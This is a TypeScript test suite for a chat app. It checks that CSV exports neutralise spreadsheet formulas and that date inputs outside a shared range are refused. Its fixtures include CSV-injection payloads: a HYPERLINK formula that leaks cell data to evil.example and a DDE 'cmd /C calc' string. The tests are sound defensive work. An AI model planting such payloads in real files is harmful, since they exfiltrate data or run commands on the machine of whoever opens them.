import { randomUUID } from 'node:crypto'
import { parse } from 'csv-parse/sync'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { AuditEntry } from '#admin-shared/admin-schemas'
import { DATE_RANGE_MESSAGE } from '#shared/dates'
import type { ExportJob } from '#shared/export-schemas'
import type { ScheduledMessage } from '#shared/scheduled-schemas'
import type { Conversation } from '#shared/types'
import { api, closeAllSockets, connect, logIn, must, sendOk, setupConversation, signUp, sleep, type Session } from '../support/helpers'

// Exports an admin opens in a spreadsheet, and date inputs crafted to break the database behind validation.

/** Text a spreadsheet would run, as a member can write it: in a message, a display name and a conversation title. */
const FORMULA_NAME = '=HYPERLINK("https://evil.example/?"&A1,"Open me")'
const FORMULA_TITLE = '+cmd|\' /C calc\'!A0'
const FORMULA_MESSAGES = ['=1+1', '-2+3 and more', '@SUM(A1:A9)', '+33 6 12 34 56 78']
const PLAIN = 'a = b, nothing to run'

let admin: Session
let alice: Session
let bob: Session
let projectId: string
let conversation: Conversation

async function raw(session: Session, path: string) {
  const res = await fetch(`${session.base}${path}`, { headers: { authorization: `Bearer ${session.token}` } })
  return { status: res.status, type: res.headers.get('content-type') ?? '', text: await res.text() }
}

/** The CSV as records keyed by its header row. */
const records = (text: string) => parse(text, { columns: true, bom: true }) as Record<string, string>[]

beforeAll(async () => {
  admin = await logIn('admin@example.com')
  ;[alice, bob] = await Promise.all([signUp(FORMULA_NAME), signUp('Bob')])
  ;({ projectId, conversation } = await setupConversation(alice, [bob], FORMULA_TITLE))
  const a = await connect(alice)
  for (const text of [...FORMULA_MESSAGES, PLAIN]) await sendOk(a, conversation.id, text)
})

afterAll(() => closeAllSockets())

describe('CSV exports neutralise formulas unless raw cells are asked for', () => {
  /** The rows of the fixture conversation: its messages in order. */
  const messageRows = (text: string) => records(text).filter(r => r.conversation_id === conversation.id)

  function expectNeutralised(rows: Record<string, string>[]) {
    expect(rows.map(r => r.content)).toEqual([...FORMULA_MESSAGES.map(m => `'${m}`), PLAIN])
    expect(rows.every(r => r.sender_name === `'${FORMULA_NAME}` && r.conversation === `'${FORMULA_TITLE}`)).toBe(true)
    // The numeric column is not text: its values are untouched.
    expect(rows.every(r => /^\d+$/.test(r.seq!))).toBe(true)
  }

  function expectRaw(rows: Record<string, string>[]) {
    expect(rows.map(r => r.content)).toEqual([...FORMULA_MESSAGES, PLAIN])
    expect(rows.every(r => r.sender_name === FORMULA_NAME && r.conversation === FORMULA_TITLE)).toBe(true)
  }

  it('the admin conversation download: a leading quote by default, the stored text with csvRaw=true', async () => {
    const safe = await raw(admin, `/api/admin/conversations/${conversation.id}/export?format=csv`)
    expect(safe.status).toBe(200)
    expect(safe.type).toContain('text/csv')
    expectNeutralised(messageRows(safe.text))
    // No cell of the file starts a formula.
    expect((parse(safe.text) as string[][]).flat().filter(cell => /^[=+@\t\r]|^-\D/.test(cell))).toEqual([])

    const rawFile = await raw(admin, `/api/admin/conversations/${conversation.id}/export?format=csv&csvRaw=true`)
    expect(rawFile.status).toBe(200)
    expectRaw(messageRows(rawFile.text))

    // JSON is for programs: it carries the text as it is whatever the option.
    const json = JSON.parse((await raw(admin, `/api/admin/conversations/${conversation.id}/export?format=json`)).text) as { messages: { content: string }[] }
    expect(json.messages.map(m => m.content)).toEqual([...FORMULA_MESSAGES, PLAIN])

    const { entries } = must(await api<{ entries: AuditEntry[] }>(admin.base, 'GET', `/api/admin/audit?action=export.create&targetId=${conversation.id}&limit=3`, { token: admin.token }), 'audit')
    // Newest first: the JSON, the raw CSV, the default CSV; a raw file is on record as one.
    expect(entries.map(e => e.details.csvRaw)).toEqual([false, true, false])
  })

  async function finished(body: Record<string, unknown>): Promise<ExportJob> {
    let job = must(await api<{ export: ExportJob }>(admin.base, 'POST', '/api/admin/exports', { token: admin.token, body }), 'create export').export
    for (let i = 0; i < 100 && job.status !== 'done' && job.status !== 'failed'; i++) {
      await sleep(100)
      job = must(await api<{ export: ExportJob }>(admin.base, 'GET', `/api/admin/exports/${job.id}`, { token: admin.token }), 'poll').export
    }
    expect(job).toMatchObject({ status: 'done' })
    return job
  }

  it('the project export job: neutralised by default, raw when the body says csvRaw', async () => {
    const safe = await finished({ scope: { projectId }, format: 'csv' })
    expect(safe.csvRaw).toBe(false)
    expectNeutralised(messageRows((await raw(admin, safe.downloadUrl!)).text))

    const rawJob = await finished({ scope: { projectId }, format: 'csv', csvRaw: true })
    expect(rawJob.csvRaw).toBe(true)
    expectRaw(messageRows((await raw(admin, rawJob.downloadUrl!)).text))
  })

  it('the audit log CSV: a conversation title in targetLabel is neutralised by default and kept with csvRaw=true', async () => {
    // Exporting the conversation put an entry on it, labelled with its title.
    const query = `format=csv&targetId=${conversation.id}`
    const safe = await raw(admin, `/api/admin/audit/export?${query}`)
    expect(safe.status).toBe(200)
    const safeRows = records(safe.text)
    expect(safeRows.length).toBeGreaterThan(0)
    expect(safeRows.every(r => r.targetLabel === `'${FORMULA_TITLE}`)).toBe(true)
    // seq is a number: untouched, and still parses.
    expect(safeRows.every(r => /^\d+$/.test(r.seq!))).toBe(true)

    const rawRows = records((await raw(admin, `/api/admin/audit/export?${query}&csvRaw=true`)).text)
    expect(rawRows.map(r => r.id)).toEqual(safeRows.map(r => r.id))
    expect(rawRows.every(r => r.targetLabel === FORMULA_TITLE)).toBe(true)
  })
})

describe('every date input is bounded to the shared range and answers VALIDATION', () => {
  const YEAR_0 = '0000-01-01T00:00:00Z'
  const YEAR_275760 = ['+275760-09-13T00:00:00Z', '275760-09-13T00:00:00Z']
  const DAY_0 = '0000-01-01'
  const FAR_DAY = '9999-12-31'

  function expectValidation(res: { status: number, body: unknown }, field: string, what: string) {
    expect(res.status, `${what}: ${JSON.stringify(res.body)}`).toBe(400)
    expect(res.body, what).toMatchObject({ error: { code: 'VALIDATION', details: { fields: expect.arrayContaining([expect.objectContaining({ field })]) } } })
  }

  async function exportCreates(): Promise<number> {
    const { entries } = must(await api<{ entries: AuditEntry[] }>(admin.base, 'GET', `/api/admin/audit?action=export.create&targetId=${conversation.id}&limit=200`, { token: admin.token }), 'audit')
    return entries.length
  }
  const jobs = async () => must(await api<{ exports: ExportJob[] }>(admin.base, 'GET', '/api/admin/exports?limit=100', { token: admin.token }), 'exports').exports.length

  it('exports (admin download, project job, member download) refuse year 0000 and year 275760 before writing anything', async () => {
    const audited = await exportCreates()
    const queued = await jobs()
    for (const bad of [DAY_0, YEAR_0, ...YEAR_275760, FAR_DAY]) {
      for (const field of ['from', 'to']) {
        const q = new URLSearchParams({ format: 'csv', [field]: bad })
        expectValidation(await api(admin.base, 'GET', `/api/admin/conversations/${conversation.id}/export?${q}`, { token: admin.token }), field, `admin download ${field}=${bad}`)
        expectValidation(await api(admin.base, 'POST', '/api/admin/exports', { token: admin.token, body: { scope: { projectId }, format: 'csv', [field]: bad } }), field, `job ${field}=${bad}`)
        const mine = new URLSearchParams({ format: 'json', [field]: bad })
        expectValidation(await api(alice.base, 'GET', `/api/conversations/${conversation.id}/export?${mine}`, { token: alice.token }), field, `member download ${field}=${bad}`)
      }
    }
    const refused = await api<{ error: { details: { fields: { field: string, message: string }[] } } }>(admin.base, 'GET', `/api/admin/conversations/${conversation.id}/export?from=${DAY_0}`, { token: admin.token })
    expect(refused.body.error.details.fields).toContainEqual({ field: 'from', message: DATE_RANGE_MESSAGE })
    // Nothing was recorded or queued for the refused requests.
    expect(await exportCreates()).toBe(audited)
    expect(await jobs()).toBe(queued)

    // A normal range still exports the whole file.
    const ok = await raw(admin, `/api/admin/conversations/${conversation.id}/export?format=csv&from=2020-01-01&to=2999-12-31`)
    expect(ok.status).toBe(200)
    expect(messageCount(ok.text)).toBe(FORMULA_MESSAGES.length + 1)
  })

  const messageCount = (csv: string) => records(csv).length

  it('audit filters, analytics, search and the gallery refuse them too', async () => {
    for (const bad of [YEAR_0, ...YEAR_275760]) {
      expectValidation(await api(admin.base, 'GET', `/api/admin/audit?from=${encodeURIComponent(bad)}`, { token: admin.token }), 'from', `audit from=${bad}`)
      expectValidation(await api(admin.base, 'GET', `/api/admin/audit/export?format=csv&to=${encodeURIComponent(bad)}`, { token: admin.token }), 'to', `audit export to=${bad}`)
      expectValidation(await api(alice.base, 'GET', `/api/conversations/${conversation.id}/attachments?before=${encodeURIComponent(bad)}`, { token: alice.token }), 'before', `gallery before=${bad}`)
    }
    for (const [from, to] of [[DAY_0, '0000-12-31'], ['275760-01-01', '275760-09-13'], ['9999-01-01', FAR_DAY]]) {
      expectValidation(await api(admin.base, 'GET', `/api/admin/analytics?projectId=${projectId}&from=${from}&to=${to}`, { token: admin.token }), 'from', `analytics ${from}…${to}`)
    }
    for (const q of [`after:${FAR_DAY} hello`, `before:${DAY_0} hello`, 'after:275760-09-13 hello']) {
      expectValidation(await api(alice.base, 'GET', `/api/search?${new URLSearchParams({ q })}`, { token: alice.token }), 'q', `search ${q}`)
    }

    const day = new Date().toISOString().slice(0, 10)
    expect((await api(admin.base, 'GET', `/api/admin/audit?from=${encodeURIComponent('2020-01-01T00:00:00Z')}&targetId=${conversation.id}`, { token: admin.token })).status).toBe(200)
    expect((await api(admin.base, 'GET', `/api/admin/analytics?projectId=${projectId}&from=${day}&to=${day}`, { token: admin.token })).status).toBe(200)
    const found = must(await api<{ results: unknown[] }>(alice.base, 'GET', `/api/search?${new URLSearchParams({ q: 'after:2020-01-01 nothing' })}`, { token: alice.token }), 'search')
    expect(found.results).toHaveLength(1)
    expect((await api(alice.base, 'GET', `/api/conversations/${conversation.id}/attachments?before=${encodeURIComponent('2999-01-01T00:00:00Z')}`, { token: alice.token })).status).toBe(200)
  })

  it('mutedUntil, sendAt, sanction until and retention restore refuse them and change nothing', async () => {
    const convo = async () => must(await api<{ conversation: Conversation }>(alice.base, 'GET', `/api/conversations/${conversation.id}`, { token: alice.token }), 'conversation')
    const scheduled = async () => must(await api<{ scheduled: ScheduledMessage[] }>(alice.base, 'GET', '/api/scheduled', { token: alice.token }), 'scheduled').scheduled.length
    const pending = await scheduled()

    for (const bad of [YEAR_0, ...YEAR_275760]) {
      expectValidation(await api(alice.base, 'PATCH', `/api/conversations/${conversation.id}/preferences`, { token: alice.token, body: { mutedUntil: bad } }), 'mutedUntil', `mutedUntil=${bad}`)
      expectValidation(await api(alice.base, 'POST', `/api/conversations/${conversation.id}/scheduled`, { token: alice.token, body: { clientId: randomUUID(), content: 'later', sendAt: bad } }), 'sendAt', `sendAt=${bad}`)
      expectValidation(await api(admin.base, 'POST', `/api/admin/users/${bob.user.id}/ban`, { token: admin.token, body: { reason: 'x', until: bad } }), 'until', `ban until=${bad}`)
      expectValidation(await api(admin.base, 'POST', `/api/admin/users/${bob.user.id}/mute`, { token: admin.token, body: { reason: 'x', until: bad } }), 'until', `mute until=${bad}`)
      expectValidation(await api(admin.base, 'POST', `/api/admin/projects/${projectId}/retention/restore`, { token: admin.token, body: { from: bad } }), 'from', `restore from=${bad}`)
    }
    expect((await convo()).conversation.preferences.mutedUntil).toBeNull()
    expect(await scheduled()).toBe(pending)
    // Bob is neither banned nor muted: he still reads and posts.
    const b = await connect(bob)
    expect((await sendOk(b, conversation.id, 'still here')).content).toBe('still here')

    // A normal date works, and the server stayed healthy throughout.
    const soon = new Date(Date.now() + 3_600_000).toISOString()
    const muted = must(await api<{ conversation: Conversation }>(alice.base, 'PATCH', `/api/conversations/${conversation.id}/preferences`, { token: alice.token, body: { mutedUntil: soon } }), 'mute')
    expect(Date.parse(muted.conversation.preferences.mutedUntil!)).toBe(Date.parse(soon))
    expect((await api(alice.base, 'GET', '/api/health')).status).toBe(200)
  })
})
